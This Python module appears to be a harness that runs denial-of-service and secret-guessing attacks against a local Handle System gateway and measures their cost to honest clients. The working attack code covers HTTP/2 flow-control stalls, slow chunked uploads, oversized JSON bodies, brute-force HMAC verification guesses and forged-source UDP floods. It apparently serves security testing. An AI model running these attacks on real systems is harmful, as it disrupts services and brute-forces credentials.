"""The attacks. Each prints a line: what it costs the service, and honest clients beside it."""

import base64
import json
import select
import socket
import ssl
import time
import urllib.parse

from honest import ATTACKER, HONEST, Attack, Comparison, measure
from service import GATEWAY, HANDLED, IDENTITY, PREFIX, SECRET, administrator, spelling, text
from wire import (HttpClient, NativeClient, SUCCESS, WINDOW_UPDATE, basic, connect, connect_over_tls,
                  connect_without_window, frame, get_over_http2, post_over_http2, query, request,
                  resolve_request, session_setup, verification)

SHORT = request("GET", f"/api/handles/{PREFIX}/short")


def mib(count):
    return f"{count / (1 << 20):.1f} MiB"


def readers(service, count=2, message=SHORT, source=HONEST, tls=False):
    """Clients that ask the gateway, over connections of their own: workers share connections out."""
    clients = [HttpClient(service.http_port, source, tls) for _ in range(count)]
    return [lambda client=client: client.ask(message)[0] in (200, 201) for client in clients]


# Answers that nobody reads.

def hold(counts, port, connections, requests):
    """Connections of HTTP/2 without a window, with requests on each. Those that are cut are made again."""
    def begin():
        stream = connect_without_window(port, ATTACKER)
        message = b"".join(requests(2 * number + 1) for number in range(100))
        stream.sendall(message)
        counts[0] += len(message)
        return stream

    streams = [begin() for _ in range(connections)]
    while True:
        for ready in select.select(streams, [], [], 1)[0]:
            try:
                is_cut = not ready.recv(1 << 16)
            except OSError:
                is_cut = True
            if is_cut:
                streams.remove(ready)
                counts[1] += 1
                streams.append(begin())


def unread(service, args):
    eight = json.dumps({"handles": [f"{PREFIX}/eight-{number}" for number in range(8)]}).encode()
    for name, connections, requests in (
            ("openapi.json", 8, lambda stream: get_over_http2(stream, "/api/openapi.json")),
            ("record of 267 kB", 4, lambda stream: get_over_http2(stream, f"/api/handles/{PREFIX}/long")),
            ("record of 1.2 MB", 8, lambda stream: get_over_http2(stream, f"/api/handles/{PREFIX}/longest")),
            ("/api/resolve", 4, lambda stream: post_over_http2(stream, "/api/resolve", eight))):
        service.restart_gateway()
        asks = readers(service)
        measure(asks, 0.5)
        before = service.held_bytes(GATEWAY)
        attack = Attack(hold, service.http_port, connections, requests)
        time.sleep(4)
        held, sent = service.held_bytes(GATEWAY) - before, attack.counts[0]
        attack.stop()
        time.sleep(0.5)
        comparison = Comparison()
        comparison.run(asks, lambda: Attack(hold, service.http_port, connections, requests), args.turns, args.seconds)
        print(f"unread {name}: {connections} connections, {sent / 1000:.0f} kB sent, {mib(held)} held; {comparison.text()}")


def drip(counts, port, connections):
    """A byte of window for each answer every 10 s."""
    streams = [connect_without_window(port, ATTACKER) for _ in range(connections)]
    for stream in streams:
        stream.sendall(b"".join(get_over_http2(2 * n + 1, f"/api/handles/{PREFIX}/long") for n in range(100)))
    while True:
        time.sleep(10)
        for stream in streams:
            try:
                stream.sendall(b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, b"\0\0\0\1") for n in range(100)))
            except OSError:
                # It was cut.
                pass


def dripping(service, args):
    service.restart_gateway()
    measure(readers(service), 0.5)
    before = service.held_bytes(GATEWAY)
    attack = Attack(drip, service.http_port, 4)
    held = []
    for seconds in (25, 20):
        time.sleep(seconds)
        held.append(mib(service.held_bytes(GATEWAY) - before))
    attack.stop()
    print(f"dripping: 4 connections, a byte of window for each answer every 10 s: {held[0]} held after 25 s, {held[1]} after 45 s")


# Guesses of secrets.

# Guesses in one piece, and in a second beside honest clients: as many as were answered once.
PIECE, RATE = 10, 3000


class Pace:
    """Waits so that pieces are sent at a rate; 0 for as fast as they are answered."""

    def __init__(self, rate):
        self.rate, self.due = rate, time.monotonic()

    def wait(self):
        if self.rate:
            self.due = max(self.due + PIECE / self.rate, time.monotonic() - 0.1)
            time.sleep(max(self.due - time.monotonic(), 0))


def guess_over_http(counts, rate, make_client, make_guess):
    """Counts verdicts and refusals."""
    client, pace = make_client(), Pace(rate)
    while True:
        pace.wait()
        guesses = [make_guess(client) for _ in range(PIECE)]
        try:
            client.send(b"".join(guesses))
            for _ in guesses:
                status, body = client.receive()
                is_verdict = status == 401 or status == 200 and b"false" in body
                counts[0 if is_verdict else 1] += 1
                if client.stream is None:
                    break
        except (OSError, EOFError):
            client.close()


def guess_over_native(counts, rate, port):
    question = verification(IDENTITY, b"wrong")
    client, pace = NativeClient(port, ATTACKER), Pace(rate)
    client.ask(question)
    counts[0] += 1
    while True:
        pace.wait()
        client.stream.sendall(question * PIECE)
        for _ in range(PIECE):
            code, _ = client.receive()
            counts[0 if code == SUCCESS else 1] += 1


def verification_guess(_):
    name = urllib.parse.quote(IDENTITY, safe="/")
    signature = base64.b64encode(bytes(32)).decode()
    fields = urllib.parse.urlencode({"nonce": "AAAA", "cnonce": "AAAA", "alg": "HMAC-SHA256", "signature": signature})
    return request("GET", f"/api/verifications/{name}?{fields}")


PROTECTED = f"/api/handles/{PREFIX}/short?publicOnly=false"


class SessionGuesser(HttpClient):
    """Proves an identity in sessions of the gateway, with MACs of a wrong secret."""

    def send(self, message):
        if self.stream is None or not getattr(self, "session", None):
            self.session = None
            super().send(request("POST", "/api/sessions"))
            self.session = json.loads(super().receive()[1]).get("sessionId")
        fields = {"sessionId": self.session, "id": IDENTITY, "type": "HS_SECKEY", "cnonce": "AAAA",
                  "alg": "HMAC-SHA256", "signature": base64.b64encode(b"\1" * 32).decode()}
        listed = ", ".join(f'{name}="{value}"' for name, value in fields.items())
        super().send(request("GET", PROTECTED, f"Authorization: Handle {listed}\r\n") * PIECE)


def guesses(service, args):
    own = request("GET", PROTECTED, basic(IDENTITY, SECRET))
    right = verification(IDENTITY, SECRET.encode())

    def native_asks(port):
        clients = [NativeClient(port, HONEST) for _ in range(2)]
        return [lambda client=client: client.ask(right)[0] == SUCCESS for client in clients]

    port = service.http_port
    forms = (
        ("GET /api/verifications", readers(service, message=own, tls=True), guess_over_http,
         (lambda: HttpClient(port, ATTACKER), verification_guess)),
        ("Authorization: Handle", readers(service, message=own, tls=True), guess_over_http,
         (lambda: SessionGuesser(port, ATTACKER, tls=True), lambda _: b"")),
        ("VERIFY_CHALLENGE at handled", native_asks(service.query_port), guess_over_native, (service.query_port,)),
        ("VERIFY_CHALLENGE at handle-admin", native_asks(service.admin_port), guess_over_native, (service.admin_port,)),
    )
    for name, asks, guess, arguments in forms:
        service.restart()
        attack = Attack(guess, 0, *arguments)
        time.sleep(4)
        verdicts, refusals = attack.counts[0], attack.counts[1]
        attack.stop()
        comparison = Comparison()
        comparison.run(asks, lambda: Attack(guess, RATE, *arguments), args.turns, args.seconds)
        print(f"guesses {name}: {verdicts:.0f} verdicts in 4 s, {refusals:.0f} refusals; "
              f"beside {RATE} guesses a second: {comparison.text()}")


# Places at handle-admin.

WRONG = basic(IDENTITY, "wrong")
# Nobody, with a batch that is read whole before any of it is carried out.
NOBODY = basic(f"300:{PREFIX}/NOBODY", "wrong") + "Idempotency-Key: one\r\n"
CHUNKED = "Transfer-Encoding: chunked\r\nContent-Type: application/x-ndjson\r\n"
CREATION = {"operation": "replace", "handle": f"{PREFIX}/placed", "values": [text(1, "URL", "https://example.org/"), administrator()]}


def batch_head(authorization):
    return f"POST /api/batch HTTP/1.1\r\nHost: localhost\r\n{CHUNKED}{authorization}\r\n".encode()


def trickle(counts, port, sources):
    """A batch of each source that sends a byte each second. They begin again when they are refused."""
    streams = {}

    def begin(source):
        try:
            stream = connect_over_tls(port, source)
            stream.sendall(batch_head(NOBODY) + b"1\r\n{\r\n")
        except OSError:
            counts[2] += 1
            return
        stream.setblocking(False)
        streams[stream] = source
        counts[1] = len(streams)

    for source in sources:
        begin(source)
    sent_at = time.monotonic()
    while True:
        for ready in select.select(list(streams), [], [], 0.2)[0]:
            try:
                ready.recv(1 << 16)
            except ssl.SSLWantReadError:
                # A ticket for further connections.
                continue
            except OSError:
                pass
            counts[0] += 1
            source = streams.pop(ready)
            ready.close()
            begin(source)
            # At most 50 of them in a second.
            time.sleep(0.02)
        counts[1] = len(streams)
        if time.monotonic() - sent_at > 1:
            sent_at = time.monotonic()
            for stream in streams:
                try:
                    stream.sendall(b"1\r\n \r\n")
                except OSError:
                    pass


def places(service, args):
    one = [ATTACKER] * 16
    many = [f"127.66.{number}.6" for number in range(1, 33) for _ in range(3)]
    batch = request("POST", "/api/batch", "Content-Type: application/x-ndjson\r\n" + basic(IDENTITY, SECRET),
                    json.dumps(CREATION).encode() + b"\n")

    def is_placed(client):
        status, body = client.ask(batch)
        return status == 200 and b'"responseCode":1,' in body

    for name, sources, source in (("one source", one, ATTACKER), ("one source", one, HONEST), ("32 sources", many, HONEST)):
        service.restart()
        clients = [HttpClient(service.http_port, source, tls=True) for _ in range(2)]
        comparison = Comparison()
        refused, held, failed, *_ = comparison.run([lambda client=client: is_placed(client) for client in clients],
                                           lambda: Attack(trickle, service.http_port, sources), args.turns,
                                           args.seconds, warm_s=2.5)
        whose = "its own" if source == ATTACKER else "another"
        print(f"places {name}: {len(sources)} batches that trickle, {refused / args.turns:.0f} answered a turn, "
              f"{held / args.turns:.0f} open at its end, {failed / args.turns:.0f} not begun; "
              f"batches of {whose} source: {comparison.text()}")


# Products of bounded lists.

TYPES = [f"{number:04}" for number in range(120)]


def lists():
    many = [spelling(number) for number in range(1000)]
    long = [f"{PREFIX}/eight-0"] * 1000
    repeated = "&".join(f"type={one}" for one in TYPES)
    indexes = "&".join(f"index={number}" for number in range(5000, 5256))
    return (
        ("1,000 spellings, 120 types, 2,000 values", resolve_request(many, type=TYPES)),
        ("1,000 spellings, 256 indexes, 2,000 values", resolve_request(many, index=list(range(5000, 5256)))),
        ("1,000 times a record of 226 kB", resolve_request(long)),
        ("GET with 120 types", request("GET", f"/api/handles/{spelling(0)}?{repeated}")),
        ("GET with 256 indexes", request("GET", f"/api/handles/{spelling(0)}?{indexes}")),
    )


def repeat(counts, port, message, connections, may_leave):
    """Requests over several connections, each after the answer to the one before, or without waiting."""
    clients = [HttpClient(port, ATTACKER) for _ in range(connections)]
    while True:
        for client in clients:
            client.send(message)
            counts[0] += 1
        for client in clients:
            if may_leave:
                client.close()
                continue
            try:
                counts[1] += len(client.receive()[1])
            except (OSError, EOFError):
                client.close()
        if may_leave:
            time.sleep(0.05)


def products(service, args):
    for name, message in lists():
        service.restart_gateway()
        client = HttpClient(service.http_port, ATTACKER)
        client.ask(SHORT)
        costs, drawn, count = [], 0, 1 if message.startswith(b"POST") else 50
        for _ in range(3):
            before = service.processor_s(GATEWAY)
            for _ in range(count):
                drawn = len(client.ask(message)[1])
            costs.append((service.processor_s(GATEWAY) - before) / count)
        client.send(message)
        time.sleep(0.02)
        client.close()
        time.sleep(0.03)
        left_at = service.processor_s(GATEWAY)
        time.sleep(2)
        after = service.processor_s(GATEWAY) - left_at
        comparison = Comparison()
        comparison.run(readers(service, 4), lambda: Attack(repeat, service.http_port, message, 4, False), args.turns, args.seconds)
        print(f"products {name}: {len(message) / 1000:.1f} kB, {sorted(costs)[1] * 1000:.2f} ms of processor time, "
              f"{drawn / 1e6:.2f} MB drawn, {after * 1000:.0f} ms after the client has left; {comparison.text()}")


# Long bodies.

def parsing(service, args):
    ones = b"[" + b"1," * 1_999_999 + b"1]"
    json_type = "Content-Type: application/json\r\n"
    put = f"/api/handles/{PREFIX}/put"
    for name, message, tls in (
            ("PUT with a wrong secret", request("PUT", put, json_type + WRONG, ones), True),
            ("PUT with a right secret", request("PUT", put, json_type + basic(IDENTITY, SECRET), ones), True),
            ("/api/resolve", request("POST", "/api/resolve", json_type, b'{"handles":' + ones + b"}"), False)):
        service.restart()
        asks = readers(service, 8)
        measure(asks, 0.5)
        service.forget_peak(GATEWAY)
        held, used = service.peak_bytes(GATEWAY), service.processor_s(GATEWAY)
        client = HttpClient(service.http_port, ATTACKER, tls)
        status = answered(client, message)
        used = service.processor_s(GATEWAY) - used
        peak = service.peak_bytes(GATEWAY) - held
        comparison = Comparison()
        comparison.run(asks, lambda: Attack(send_slowly, service.http_port, message, tls), args.turns, args.seconds)
        print(f"parsing {name}: {len(message) / 1e6:.1f} MB, status {status}, {used * 1000:.0f} ms of processor time, "
              f"{peak / len(ones):.1f} bytes of memory for one of body; {comparison.text()}")


def answered(client, message):
    """The status of the answer to a long request, which may come before the end of its body."""
    try:
        return client.ask(message)[0]
    except (OSError, EOFError) as error:
        return type(error).__name__


def send_slowly(counts, port, message, tls):
    """Five such requests in a second."""
    while True:
        client = HttpClient(port, ATTACKER, tls)
        answered(client, message)
        client.close()
        time.sleep(0.2)


# Templates.

def templates(service, args):
    client = NativeClient(service.query_port, ATTACKER, keeps=False)
    code, body = client.ask(query(f"{PREFIX}/reveals@x"))
    print(f"templates: a secret key in an answer to anybody: {'yes' if b'not for strangers' in body else 'no'} (code {code})")
    costly, used = query(f"{PREFIX}/costly@x"), service.processor_s(HANDLED)
    since = time.perf_counter()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(60)
        one.bind((ATTACKER, 0))
        one.sendto(costly, ("127.0.0.1", service.query_port))
        one.recv(65536)
    took, used = time.perf_counter() - since, service.processor_s(HANDLED) - used
    print(f"templates: one datagram of {len(costly)} bytes: {used * 1000:.1f} ms of processor time, answered after {took * 1000:.1f} ms")
    for name, message, rightly in (("set-up of sessions", session_setup(), SUCCESS), ("answers by templates", query(f"{PREFIX}/cheap@x"), SUCCESS)):
        client = NativeClient(service.query_port, HONEST, keeps=False)
        client_ask = bounded(client, message, rightly)
        comparison = Comparison()
        # What still waits of the attack would count for the next turn without it.
        comparison.run([client_ask], lambda: Attack(forge, service.query_port, costly), args.turns, args.seconds, warm_s=0.5, settle_s=6)
        print(f"templates: eight forged sources, 1,000 datagrams/s, a ninth's {name}: {comparison.text()}")


def bounded(client, message, rightly):
    def ask():
        if client.stream is None:
            client.stream, client.rest = connect(client.port, client.source, 3), b""
        return client.ask(message)[0] == rightly
    return ask


def forge(counts, port, message):
    sockets = []
    for number in range(1, 9):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((f"127.8.{number}.1", 0))
        one.connect(("127.0.0.1", port))
        sockets.append(one)
    while True:
        for one in sockets:
            try:
                one.send(message)
                counts[0] += 1
            except OSError:
                pass
        time.sleep(0.008)


ALL = {"unread": unread, "dripping": dripping, "guesses": guesses, "places": places, "products": products,
       "parsing": parsing, "templates": templates}
